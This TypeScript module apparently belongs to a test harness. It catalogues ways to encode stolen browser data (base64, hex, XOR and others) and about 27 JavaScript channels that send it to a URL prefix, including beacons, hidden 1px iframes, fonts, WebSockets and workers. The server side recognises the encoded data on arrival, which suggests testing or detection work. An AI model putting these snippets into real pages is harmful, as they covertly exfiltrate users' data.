import { type CaseContext, quote } from './case-context.ts'

/** Encoding of stolen data: in the browser, and on the server to recognize it. */
export interface Encoding {
  name: string
  browser: (expression: string) => string
  /** Possible forms of the text on arrival. */
  server: (text: string) => string[]
}

const bytes = (text: string) => [...Buffer.from(text)]

/** In base64, three bytes share four characters, so the text can start at three offsets. Characters shared with neighbours are left out. */
const base64Within = (text: string) =>
  [0, 1, 2].map((before) => {
    const whole = Buffer.from(' '.repeat(before) + text)
      .toString('base64')
      .replace(/=+$/, '')
    return whole.slice(before ? before + 1 : 0, -2)
  })

export const encodings: Encoding[] = [
  { name: 'plain', browser: (value) => `encodeURIComponent(${value})`, server: (text) => [text] },
  {
    name: 'base64',
    browser: (value) => `encodeURIComponent(btoa(unescape(encodeURIComponent(${value}))))`,
    server: base64Within,
  },
  {
    name: 'hex',
    browser: (value) =>
      `Array.from(${value},function(c){return ('0'+c.charCodeAt(0).toString(16)).slice(-2)}).join('')`,
    server: (text) => [Buffer.from(text).toString('hex')],
  },
  {
    name: 'reversed',
    browser: (value) => `encodeURIComponent(Array.from(${value}).reverse().join(''))`,
    server: (text) => [[...text].reverse().join('')],
  },
  {
    name: 'codes',
    browser: (value) => `Array.from(${value},function(c){return c.charCodeAt(0)}).join('.')`,
    server: (text) => [bytes(text).join('.')],
  },
  {
    name: 'xor',
    browser: (value) =>
      `Array.from(${value},function(c){return ('0'+(c.charCodeAt(0)^42).toString(16)).slice(-2)}).join('')`,
    server: (text) => [Buffer.from(bytes(text).map((byte) => byte ^ 42)).toString('hex')],
  },
]

/** Statements that send the encoded value `v` to the URL prefix `u`. */
export interface Transport {
  name: string
  code: (context: CaseContext) => string
}

const make = (element: string, property: string, extra = '') =>
  `var e=document.createElement('${element}');e.${property}=u+v;${extra}`
const intoPage = '(document.body||document.documentElement).appendChild(e)'
const unseen = "e.style.cssText='position:absolute;width:1px;height:1px;border:0';"

export const transports: Transport[] = [
  { name: 'fetch', code: () => "fetch(u+v,{mode:'no-cors'})" },
  { name: 'fetch-post', code: () => "fetch(u,{method:'POST',mode:'no-cors',keepalive:true,body:v})" },
  { name: 'page-fetch', code: () => "W.fetch(u+v,{mode:'no-cors',credentials:'include'})" },
  { name: 'xhr', code: () => "var x=new XMLHttpRequest();x.open('POST',u);x.send(v)" },
  { name: 'beacon', code: () => 'navigator.sendBeacon(u,v)' },
  { name: 'page-beacon', code: () => 'W.navigator.sendBeacon(u,new Blob([v]))' },
  { name: 'image', code: () => 'new Image().src=u+v' },
  { name: 'page-image', code: () => 'new W.Image().src=u+v' },
  { name: 'image-element', code: () => make('img', 'srcset', unseen + intoPage) },
  { name: 'script-element', code: () => make('script', 'src', intoPage) },
  { name: 'page-script-element', code: () => "var e=D.createElement('script');e.src=u+v;D.head.appendChild(e)" },
  { name: 'frame', code: () => make('iframe', 'src', unseen + intoPage) },
  { name: 'stylesheet', code: () => make('link', 'href', `e.rel='stylesheet';${intoPage}`) },
  { name: 'prefetch', code: () => make('link', 'href', `e.rel='preload';e.as='image';${intoPage}`) },
  {
    name: 'background',
    code: () =>
      `var e=document.createElement('i');e.style.cssText='display:block;width:1px;height:1px;background:url("'+u+v+'")';${intoPage}`,
  },
  {
    name: 'font',
    code: () => "new FontFace('f','url(\"'+u+v+'\")').load().catch(function(){})",
  },
  { name: 'media', code: () => make('audio', 'src', "e.preload='auto'") },
  { name: 'object', code: () => make('object', 'data', `e.type='text/html';${unseen}${intoPage}`) },
  {
    name: 'svg-image',
    code: () =>
      `var n='http://www.w3.org/2000/svg',g=document.createElementNS(n,'svg'),e=document.createElementNS(n,'image');e.setAttribute('href',u+v);g.setAttribute('width',1);g.setAttribute('height',1);g.appendChild(e);(document.body||document.documentElement).appendChild(g)`,
  },
  {
    name: 'form-in-frame',
    code: () =>
      `var k=document.createElement('iframe'),o=document.createElement('form'),i=document.createElement('input');k.name='k'+Math.random();k.style.cssText='position:absolute;width:1px;height:1px;border:0';o.target=k.name;o.action=u;o.method='post';o.style.display='none';i.name='v';i.value=v;o.append(i);document.body.append(k,o);o.submit()`,
  },
  { name: 'socket', code: () => "new WebSocket(u.replace(/^http/,'ws')+v)" },
  { name: 'socket-message', code: () => "var w=new WebSocket(u.replace(/^http/,'ws'));w.onopen=function(){w.send(v)}" },
  { name: 'event-source', code: () => 'new EventSource(u+v)' },
  {
    name: 'worker-fetch',
    code: () =>
      `new Worker(URL.createObjectURL(new Blob(['onmessage=function(e){fetch(e.data[0]+e.data[1],{mode:"no-cors"})}']))).postMessage([u,v])`,
  },
  { name: 'import', code: () => 'import(u+v).catch(function(){})' },
  {
    name: 'fresh-fetch',
    code: () =>
      "var k=document.createElement('iframe');k.style.display='none';(document.body||document.documentElement).appendChild(k);k.contentWindow.fetch(u+v,{mode:'no-cors'})",
  },
  {
    name: 'relay-frame',
    code: (context) =>
      `var k=document.createElement('iframe');k.style.cssText='position:absolute;width:1px;height:1px;border:0';k.onload=function(){k.contentWindow.postMessage(u+v,'*')};k.src=${quote(
        context.file('<script>onmessage=function(e){new Image().src=e.data}</script>', 'html'),
      )};(document.body||document.documentElement).appendChild(k)`,
  },
]
